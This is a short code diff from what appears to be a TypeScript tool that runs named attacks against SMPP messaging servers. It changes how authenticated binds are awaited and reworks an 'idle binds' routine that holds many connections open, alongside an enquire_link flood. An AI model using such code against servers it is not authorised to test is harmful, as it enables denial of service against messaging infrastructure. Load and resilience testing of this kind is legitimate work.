@@ -37,7 +37,10 @@ const ENQUIRE_LINK = pdu('enquire_link', {});
 async function bound(job: AttackJob): Promise<Socket> {
   const socket = await connectTo(job);
   socket.write(bindPdu(job.username, job.password));
-  const [answer] = (await once(socket, 'data')) as [Buffer];
+  const answer = await new Promise<Buffer>((resolve, reject) => {
+    socket.once('data', resolve);
+    socket.once('close', () => reject(new Error('A bind was not answered.')));
+  });
   if (answer.readUInt32BE(8) !== 0) throw new Error(`A bind was refused: ${answer.readUInt32BE(8)}.`);
   return socket;
 }
@@ -96,7 +99,10 @@ const RUN: Record<Attack, (job: AttackJob) => Promise<unknown>> = {
       void pour(socket, ENQUIRE_LINK);
     }),
 
-  'idle binds': (job) => times(IDLE, async () => (await bound(job)).resume()),
+  'idle binds': (job) =>
+    times(CONNECTIONS, async () => {
+      for (let count = 0; count < IDLE / CONNECTIONS; count += 1) (await bound(job)).resume();
+    }),
 };
 
 let isOver = false;
